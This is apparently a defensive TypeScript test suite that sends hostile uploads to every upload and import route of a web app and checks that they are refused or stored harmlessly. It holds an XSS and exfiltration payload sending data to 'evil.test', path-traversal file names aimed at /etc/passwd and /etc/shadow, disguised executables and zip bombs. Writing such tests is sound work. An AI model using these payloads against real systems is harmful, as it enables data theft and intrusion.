import { readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { ERROR_STATUS, INVISIBLE_CHARACTERS } from '@bulwark/domain';
import type { LightMyRequestResponse } from 'fastify';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_UPLOAD_BYTES } from '../src/platform/http/upload.js';
import type { RouteRecord } from '../src/platform/http/access.js';
import { DEMO, seedDemo } from '../src/seed.js';
import { formatBytes, translate, type ErrorCode, type Language } from '@bulwark/domain';
import { WORKBOOK_LIMITS } from '../src/platform/export/workbook-zip.js';
import { changes, describeChanges, openFootprint, type FootprintReader } from './attack/footprint.js';
import { watchingHealth } from './attack/health-watch.js';
import { manyRowsWorkbook, zipBomb } from './attack/workbooks.js';
import { call, createTestApp, nextIp, PNG, signIn, type Session, type TestApp } from './helpers.js';

/**
 * Hostile uploads on every upload route. An upload route is found, not named: a route that declares
 * `consumes: multipart/form-data` in its schema, or whose last path word is an upload word (attachments,
 * upload, logo, files, photo, import), and that answers a JSON body with a refusal naming the field
 * `file` (what `readUpload` says when no file came). A new upload route is therefore attacked as soon as
 * it is registered; one that declares multipart but does not refuse JSON fails the first test.
 */
const UPLOAD_WORD = /(attachments?|upload|logo|files?|photo|image|import)$/;
/**
 * A walk of every upload route sends hundreds of files; on a busy two-core machine running two test
 * files at once it takes longer than vitest's default minute, and a walk cut off by its timeout goes on
 * uploading under the next test's footprint.
 */
const WALK_TIMEOUT = 300_000;

let t: TestApp;
let fp: FootprintReader;
let admin: Session;
const ids = new Map<string, string>();
let uploadRoutes: RouteRecord[] = [];
let requests = 0;

beforeAll(async () => {
  t = await createTestApp();
  await seedDemo(t.deps.db.app);
  admin = await signIn(t, DEMO.subDomain, DEMO.admin.email, DEMO.password);
  // Guests may report (and so upload) only where the organisation allows it.
  expect((await call(t, admin, 'PUT', '/api/organizations/guest_settings', { enabled: true })).statusCode).toBe(200);
  await readIds(admin.profile.user.id);
  fp = await openFootprint(t.ownerUrl);
  uploadRoutes = await findUploadRoutes();
});

afterAll(async () => {
  await fp?.close();
  await t?.close();
});

/** One open record per table of the demo organisation, for path parameters (`actions/:id` → actions). */
async function readIds(adminId: string) {
  const client = new pg.Client({ connectionString: t.ownerUrl });
  await client.connect();
  try {
    const tables = await client.query<{ table_name: string }>(`
      select table_name from information_schema.columns where table_schema = 'public' and column_name = 'id' and data_type = 'uuid'
      intersect select table_name from information_schema.columns where table_schema = 'public' and column_name = 'organization_id'`);
    for (const { table_name: table } of tables.rows) {
      const hasStatus = (
        await client.query(`select 1 from information_schema.columns where table_name = $1 and column_name = 'status'`, [table])
      ).rowCount;
      // A closed record refuses files for its own reasons; an open one lets the attack reach the upload.
      const { rows } = await client.query<{ id: string }>(
        `select id::text from "${table}" where organization_id = (select organization_id from users where id = $1) and id <> $1
         ${hasStatus ? "order by (status::text in ('open', 'in_progress')) desc, id" : 'order by id'} limit 1`,
        [adminId],
      );
      if (rows[0]) ids.set(table, rows[0].id);
    }
  } finally {
    await client.end();
  }
}

/** Path words that name a table by another name. */
const TABLE_OF: Record<string, string> = { permit_requests: 'permits' };

function urlOf(route: RouteRecord): string {
  const segments = route.url.split('/');
  const tableOf = (word: string) => TABLE_OF[word] ?? word;
  return segments
    .map((seg, i) => (seg.startsWith(':') ? (ids.get(tableOf(segments[i - 1] ?? '')) ?? '00000000-0000-7000-8000-000000000000') : seg))
    .join('/');
}

function headers(route: RouteRecord): Record<string, string> {
  return 'public' in route.access
    ? { 'x-tenant': DEMO.subDomain }
    : { 'x-tenant': admin.tenant, authorization: `Bearer ${admin.token}`, 'x-csrf-token': admin.csrf };
}

async function findUploadRoutes(): Promise<RouteRecord[]> {
  const found: RouteRecord[] = [];
  for (const route of t.app.registeredRoutes) {
    if (route.method !== 'POST' && route.method !== 'PUT') continue;
    const schema = (route.schema ?? {}) as { consumes?: string[]; body?: unknown };
    const declared = schema.consumes?.includes('multipart/form-data') ?? false;
    const lastWord =
      route.url
        .split('/')
        .filter((s) => s && !s.startsWith(':'))
        .pop() ?? '';
    if (!declared && (schema.body !== undefined || !UPLOAD_WORD.test(lastWord))) continue;
    const res = await t.app.inject({
      method: route.method,
      url: urlOf(route),
      headers: headers(route),
      payload: { file: 'not a file' },
      remoteAddress: nextIp(),
    });
    const body = res.json() as { fields?: Record<string, string> };
    const refusesJson = res.statusCode >= 400 && res.statusCode < 500 && body.fields?.file !== undefined;
    if (declared)
      expect(refusesJson, `${route.method} ${route.url} declares multipart but answered JSON with ${res.statusCode} ${res.body}`).toBe(
        true,
      );
    if (refusesJson) found.push(route);
  }
  return found;
}

type Part = { name?: string; fileName?: string; contentType?: string; bytes: Buffer };

/** A multipart body built by hand, so names and parts can be as hostile as a client can make them. */
function multipartOf(parts: Part[]) {
  const boundary = `----hostile${Math.random().toString(16).slice(2)}`;
  const chunks = parts.flatMap((p) => [
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${p.name ?? 'file'}"${p.fileName === undefined ? '' : `; filename="${p.fileName}"`}\r\n` +
        (p.contentType ? `Content-Type: ${p.contentType}\r\n` : '') +
        '\r\n',
      'utf8',
    ),
    p.bytes,
    Buffer.from('\r\n'),
  ]);
  return {
    payload: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

async function send(
  route: RouteRecord,
  body: { payload: Buffer | string; contentType: string },
  lang = 'en',
): Promise<LightMyRequestResponse> {
  requests += 1;
  // Imports are rate-limited per person and organisation (import-limits.test.ts); this suite sends far
  // more than one budget, while every other route here is called from a fresh address.
  if (route.upload === 'workbook') await clearRateLimits();
  return t.app.inject({
    method: route.method as 'POST',
    url: urlOf(route),
    payload: body.payload,
    remoteAddress: nextIp(),
    headers: { ...headers(route), 'content-type': body.contentType, 'accept-language': lang },
  });
}

const LANGUAGES = ['es', 'tr', 'zh'];

function listFiles(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const full = path.join(dir, name);
    if (statSync(full).isDirectory()) out.push(...listFiles(full));
    else out.push(full);
  }
  return out.sort();
}

/** Bytes that are one thing, dressed as another. */
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const JS = Buffer.from('fetch("/api/users").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.test", t));');
const EXE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
]);
/** A PNG signature followed by padding: sniffed as PNG, larger than any route allows. */
const OVERSIZED = Buffer.concat([PNG, Buffer.alloc(MAX_UPLOAD_BYTES + 1 - PNG.length)]);

/** Refused uploads: a 4xx in the error shape with a clear text, no row and no bytes left behind. */
const REFUSED: { label: string; body: () => { payload: Buffer | string; contentType: string }; status?: number }[] = [
  {
    label: 'a file over the size limit',
    status: 413,
    body: () => multipartOf([{ fileName: 'big.png', contentType: 'image/png', bytes: OVERSIZED }]),
  },
  { label: 'HTML named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: HTML }]) },
  { label: 'SVG with script named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: SVG }]) },
  { label: 'JavaScript named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: JS }]) },
  { label: 'SVG declared as image/svg+xml', body: () => multipartOf([{ fileName: 'logo.svg', contentType: 'image/svg+xml', bytes: SVG }]) },
  { label: 'an EXE named .pdf', body: () => multipartOf([{ fileName: 'report.pdf', contentType: 'application/pdf', bytes: EXE }]) },
  { label: 'a zero-byte file', body: () => multipartOf([{ fileName: 'empty.png', contentType: 'image/png', bytes: Buffer.alloc(0) }]) },
  {
    label: 'two files',
    body: () =>
      multipartOf([
        { fileName: 'a.png', contentType: 'image/png', bytes: PNG },
        { fileName: 'b.png', contentType: 'image/png', bytes: PNG },
      ]),
  },
  { label: 'no file, only a text field', body: () => multipartOf([{ name: 'note', bytes: Buffer.from('hello') }]) },
  { label: 'no parts at all', body: () => multipartOf([]) },
  {
    label: 'a body cut off mid-file',
    body: () => {
      const m = multipartOf([{ fileName: 'a.png', contentType: 'image/png', bytes: PNG }]);
      return { ...m, payload: m.payload.subarray(0, 150) };
    },
  },
  { label: 'multipart without a boundary', body: () => ({ payload: 'garbage', contentType: 'multipart/form-data' }) },
  {
    label: 'JSON instead of a file',
    body: () => ({ payload: JSON.stringify({ file: PNG.toString('base64') }), contentType: 'application/json' }),
  },
];

/** Hostile names on an acceptable file: stored harmlessly (or refused), never outside the files folder. */
const HOSTILE_NAMES = [
  '../../../etc/passwd',
  '..\\..\\win.ini',
  '/etc/shadow',
  'a\u0000b.png',
  'C:\\Windows\\System32\\evil.png',
  '<script>alert(1)</script>.png',
  'invoice\u202Egnp.exe',
  'in\u200Bvoice\u200D.png',
  'c1\u0085\u009Bname.png',
  '\u2066isolated\u2069\u200F.png',
  '\uFEFFbom.png',
  '....//....//x.png',
  '.',
  '..',
  ' ',
  'a'.repeat(1_000) + '.png',
  '%2e%2e%2fpasswd',
  'run.exe',
];

describe('hostile uploads on every upload route', () => {
  it('finds the upload routes', () => {
    console.log(`bad uploads: ${uploadRoutes.length} upload routes: ${uploadRoutes.map((r) => `${r.method} ${r.url}`).join(', ')}`);
    expect(uploadRoutes.length).toBeGreaterThanOrEqual(4);
  });

  it(
    "refuses oversized, mislabelled, empty, doubled, missing and malformed files with a 4xx in the reader's language that writes nothing",
    async () => {
      const failures: string[] = [];
      for (const route of uploadRoutes) {
        for (const c of REFUSED) {
          const where = `${route.method} ${route.url}: ${c.label}`;
          try {
            const filesBefore = listFiles(t.deps.config.filesDir);
            const before = await fp.read();
            const res = await send(route, c.body());
            expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
            expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBeLessThan(500);
            if (c.status) expect(res.statusCode, where).toBe(c.status);
            const body = res.json() as { errors: string[]; code: keyof typeof ERROR_STATUS; fields?: Record<string, string> };
            expect(body.errors[0]?.trim(), where).toBeTruthy();
            expect(ERROR_STATUS[body.code], `${where}: code ${body.code}`).toBe(res.statusCode);
            if (body.code === 'validation_failed') expect(Object.keys(body.fields ?? {}), `${where}: names the field`).toContain('file');
            expect(describeChanges(changes(before, await fp.read())), `${where} wrote rows`).toBe('nothing');
            expect(listFiles(t.deps.config.filesDir), `${where} left bytes in the files folder`).toEqual(filesBefore);
            // The same refusal in another language (in turn) is not the English text.
            const lang = LANGUAGES[requests % LANGUAGES.length]!;
            const translated = await send(route, c.body(), lang);
            expect(translated.statusCode, `${where} in ${lang}`).toBe(res.statusCode);
            const other = translated.json() as { errors: string[]; fields?: Record<string, string> };
            expect(other.errors[0], `${where} in ${lang}`).not.toBe(body.errors[0]);
            if (body.fields?.file) expect(other.fields?.file, `${where} in ${lang}`).not.toBe(body.fields.file);
          } catch (err) {
            failures.push(String(err).split('\n')[0]!.slice(0, 400));
          }
        }
      }
      console.log(`bad uploads: ${requests} requests so far`);
      expect(failures).toEqual([]);
    },
    WALK_TIMEOUT,
  );

  it(
    'keeps an acceptable file under a hostile name only with a harmless name, inside the files folder',
    async () => {
      const failures: string[] = [];
      let stored = 0;
      for (const route of uploadRoutes) {
        for (const name of HOSTILE_NAMES) {
          const where = `${route.method} ${route.url}: file named ${JSON.stringify(name.slice(0, 40))}`;
          try {
            const filesBefore = listFiles(t.deps.config.filesDir);
            const before = await fp.read();
            // The declared type is a lie for the last names: the content decides, never the label.
            const declared = name.endsWith('.exe') ? 'application/x-msdownload' : 'image/png';
            const res = await send(route, multipartOf([{ fileName: name, contentType: declared, bytes: PNG }]));
            expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBeLessThan(500);
            const after = await fp.read();
            const added = listFiles(t.deps.config.filesDir).filter((f) => !filesBefore.includes(f));
            if (res.statusCode >= 400) {
              expect(describeChanges(changes(before, after)), `${where} was refused but wrote rows`).toBe('nothing');
              expect(added, `${where} was refused but left bytes`).toEqual([]);
              continue;
            }
            stored += 1;
            const rows = await fileRowsAfter(before.get('public.files')?.digest ?? '0');
            expect(rows.length, `${where}: one file row`).toBe(1);
            const row = rows[0]!;
            expect(row.file_name, where).not.toMatch(/[/\\]|\.\./);
            // C0 and C1 controls, bidirectional controls (a right-to-left override makes `invoice\u202Egnp.exe`
            // read as `invoiceexe.png`) and zero-width characters: none is stored (issue 12 item 15).
            expect(
              new RegExp(INVISIBLE_CHARACTERS.source, 'u').test(row.file_name),
              `${where}: invisible or control characters in ${JSON.stringify(row.file_name)}`,
            ).toBe(false);
            expect(row.file_name.length, where).toBeLessThanOrEqual(200);
            expect(row.file_name.trim().length, where).toBeGreaterThan(0);
            expect(row.mime_type, `${where}: the type is read from the content`).toBe('image/png');
            // The bytes sit inside the files folder, under the key the row names, and are the bytes sent.
            expect(added.length, `${where}: one new file`).toBe(1);
            const root = path.resolve(t.deps.config.filesDir);
            expect(added[0]!.startsWith(root + path.sep), where).toBe(true);
            expect(path.resolve(root, row.storage_key), where).toBe(added[0]);
          } catch (err) {
            failures.push(String(err).split('\n')[0]!.slice(0, 400));
          }
        }
      }
      console.log(`bad uploads: hostile names stored harmlessly ${stored} times; ${requests} requests in all`);
      expect(failures).toEqual([]);
      expect(stored).toBeGreaterThan(0);
    },
    WALK_TIMEOUT,
  );
});

/** File rows written after a footprint reading (their row version is newer than the table's was). */
async function fileRowsAfter(version: string): Promise<{ file_name: string; storage_key: string; mime_type: string }[]> {
  const client = new pg.Client({ connectionString: t.ownerUrl });
  await client.connect();
  try {
    return (
      await client.query<{ file_name: string; storage_key: string; mime_type: string }>(
        'select file_name, storage_key, mime_type from files where xmin::text::bigint > $1',
        [version],
      )
    ).rows;
  } finally {
    await client.end();
  }
}

async function clearRateLimits() {
  await t.deps.db.ownerPool.query('delete from rate_limits');
}

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const ALL_LANGUAGES: Language[] = ['en', 'es', 'tr', 'zh'];
const storageText = (key: string, vars: Record<string, string | number>) => (lang: Language) => translate(lang, `storage.${key}`, vars);

/**
 * Workbooks built to hurt an import: each is made when a case first needs it and then reused by every
 * import route. Each is refused with the code and the text that name its problem: the unpacked-size cap,
 * the ratio, a part that unpacks past its declared size, or the route's own row limit (a number below
 * the rows sent, in every language).
 */
const WORKBOOKS: {
  label: string;
  make: () => Promise<Buffer>;
  code: ErrorCode;
  text?: (lang: Language) => string;
  rowsSent?: number;
}[] = [
  {
    label: '1,000,000 rows in 5 MB',
    make: () => manyRowsWorkbook(1_000_000),
    code: 'payload_too_large',
    text: storageText('workbookUnpacked', { max: formatBytes(WORKBOOK_LIMITS.maxUnpackedBytes) }),
  },
  { label: '20,000 rows inside the size cap', make: () => manyRowsWorkbook(20_000), code: 'payload_too_large', rowsSent: 20_000 },
  {
    label: 'a zip bomb: 200 MB of blank space in 200 KB',
    make: () => zipBomb(200),
    code: 'payload_too_large',
    text: storageText('workbookUnpacked', { max: formatBytes(WORKBOOK_LIMITS.maxUnpackedBytes) }),
  },
  {
    label: 'a small zip bomb: 20 MB in 22 KB, under the size cap',
    make: () => zipBomb(20),
    code: 'payload_too_large',
    text: storageText('workbookRatio', { max: WORKBOOK_LIMITS.maxRatio }),
  },
  {
    label: 'a zip bomb whose headers say 1 MB (it unpacks to 200 MB)',
    make: () => zipBomb(200, { declare: 1024 * 1024 }),
    code: 'bad_format',
    text: storageText('workbookDamaged', {}),
  },
];
const made = new Map<string, Promise<Buffer>>();

describe('hostile workbooks on every import route', () => {
  const importRoutes = () => uploadRoutes.filter((r) => r.upload === 'workbook');

  it('finds the import routes', () => {
    expect(importRoutes().map((r) => `${r.method} ${r.url}`)).toEqual(
      expect.arrayContaining(['POST /api/observations_bulk_upload', 'POST /api/users/import']),
    );
  });

  // Each case stops at its first failure: on a server that parses the whole workbook, one request
  // already takes a minute and more (the million rows: about 90 s, 2 GB, the event loop held 15 s).
  it.each(WORKBOOKS)(
    'refuses $label with a 4xx naming the problem, writes nothing, and the health check never waits 1 s',
    async (c) => {
      if (!made.has(c.label)) made.set(c.label, c.make());
      const bytes = await made.get(c.label)!;
      expect(importRoutes().length).toBeGreaterThanOrEqual(2);
      let slowest = 0;
      for (const route of importRoutes()) {
        for (const lang of ALL_LANGUAGES) {
          const where = `${route.method} ${route.url}: ${c.label} in ${lang}`;
          const before = await fp.read();
          const upload = multipartOf([{ fileName: 'import.xlsx', contentType: XLSX, bytes }]);
          const { result: res, worstWaitMs, checks } = await watchingHealth(t.app, () => send(route, upload, lang));
          // The one timed assertion the issue asks for: the app answers others while it reads a workbook.
          expect(worstWaitMs, `${where}: a health check waited ${Math.round(worstWaitMs)} ms (${checks} checks)`).toBeLessThan(1000);
          slowest = Math.max(slowest, worstWaitMs);
          expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBe(ERROR_STATUS[c.code]);
          const body = res.json() as { errors: string[]; code: string; fields?: Record<string, string> };
          expect(body.code, where).toBe(c.code);
          if (c.text) expect(body.errors[0], where).toBe(c.text(lang));
          if (c.rowsSent) {
            const limit = Number(/\d+/.exec(body.errors[0] ?? '')?.[0]);
            expect(limit > 0 && limit < c.rowsSent, `${where}: names the row limit: ${body.errors[0]}`).toBe(true);
          }
          expect(body.fields?.file, `${where}: names the field`).toBe(body.errors[0]);
          expect(describeChanges(changes(before, await fp.read())), `${where} wrote rows`).toBe('nothing');
        }
      }
      console.log(`bad uploads: ${c.label} (${bytes.length} bytes): the slowest health check waited ${Math.round(slowest)} ms`);
    },
    180_000,
  );
});
